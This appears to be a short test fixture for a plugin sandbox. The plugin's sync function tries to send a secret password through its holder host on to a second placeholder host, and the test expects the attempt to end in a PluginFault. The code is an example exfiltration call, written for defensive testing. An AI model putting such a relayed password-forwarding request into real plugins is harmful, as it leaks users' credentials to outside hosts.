// Tries: to have the password's own host send a form with the password on to another.
// Keeps: such a call ends there.
// Hosts: {HOLDER} {OTHER}
// Outcome: PluginFault
// Ledger: secret
// Requests: 1
exports.sync = function (hub) {
    hub.http.post("http://{HOLDER}/to-keeping?http%3A%2F%2F{OTHER}%2Fecho", { form: { p: "{{password}}" } });
    hub.log("broke out");
};
